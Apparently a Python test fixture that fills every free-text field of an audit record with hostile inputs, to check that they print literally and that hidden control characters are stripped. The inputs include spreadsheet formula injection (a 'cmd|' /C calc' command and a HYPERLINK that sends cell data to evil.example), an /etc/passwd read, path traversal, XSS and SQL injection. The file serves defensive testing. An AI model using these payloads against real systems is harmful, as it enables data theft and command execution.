"""Texts that nobody sane would type, in every place where a client may type: they must print, and do nothing."""

from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import cycle

from workbench.audit.model import Audit, Judgement
from workbench.method.model import Method

LONG = "anticonstitutionnel" * 160
"""More than 3,000 letters without a space."""

TEXTS = (
    '#read("/etc/passwd")',
    "*bold* _lean_ `raw` $x^2$ @ref <label>",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+SUM(A1:A9)",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "שלום עולם مرحبا",
    "e\u0301te\u0301 👩‍👩‍👧 🚀 𝔘𝔫𝔦",
    "before\u202eafter\u2066in\u200bside\u0007bell\x1b[31m",
    "{client} {n} {{x}} %s ${HOME} {0.__class__}",
    "<script>alert(1)</script> &amp; ]]> <w:t>",
    "../../../etc/passwd\\..\\x",
    "line one\nline two\r\nline three\ttab",
    "'; DROP TABLE answers; --",
    LONG,
)
HIDDEN = "\u202e\u2066\u200b\u0007\x1b"
"""What must not survive: it turns the line round, hides, rings."""

SAFE = ("#read(", "*bold*", "=HYPERLINK(", "DROP TABLE", "<script>alert(1)</script>")
"""Beginnings that must stand as they were typed."""


@dataclass
class Typist:
    """Types the texts in turn, each time with a number so that no two are the same."""

    texts: Iterator[str] = field(default_factory=lambda: cycle(TEXTS))
    typed: list[str] = field(default_factory=list)

    def __call__(self, *_: object) -> str:
        text = f"{next(self.texts)} {len(self.typed)}"
        self.typed.append(text)
        return text


def hostile(audit: Audit, method: Method, typist: Typist) -> Audit:
    """Return the audit with a hostile text in each free field, names of things included."""
    fields = {f.key: f for q in method.context for f in q.fields}
    free = {
        "context": tuple(
            c.model_copy(update={"value": typist()}) if fields[c.key].kind == "text" and c.value else c
            for c in audit.context
        ),
        "functions": _each(audit.functions, typist, "reason"),
        "people": _each(audit.people, typist, "title", also=True),
        "accounts": _each(audit.accounts, typist, "account", "platform"),
        "clauses": _each(audit.clauses, typist, "document"),
        "incidents": _each(audit.incidents, typist, "what", also=True),
        "topics": _each(audit.topics, typist, "name", also=True),
        "channels": _each(audit.channels, typist, "name", "objective", also=True),
        "proofs": _each(audit.proofs, typist, "document"),
        "answers": tuple(a.model_copy(update={"comment": typist()}) for a in audit.answers),
        "respondents": _each(audit.respondents, typist, "name", "file"),
        "judgements": tuple(_judged(j, typist) for j in audit.judgements),
    }
    client = audit.client.model_copy(update={"name": typist(), "sector": typist()})
    return audit.model_copy(update={"client": client, **free})


def _each(values: tuple, typist: Typist, *names: str, also: bool = False) -> tuple:  # type: ignore[type-arg]
    """Return values with these fields typed over; those left empty stay empty unless `also`."""
    return tuple(v.model_copy(update={n: typist() for n in names if also or getattr(v, n) is not None}) for v in values)


def _judged(judgement: Judgement, typist: Typist) -> Judgement:
    return judgement.model_copy(update={n: typist() for n in ("author", "reason", "dissent")})
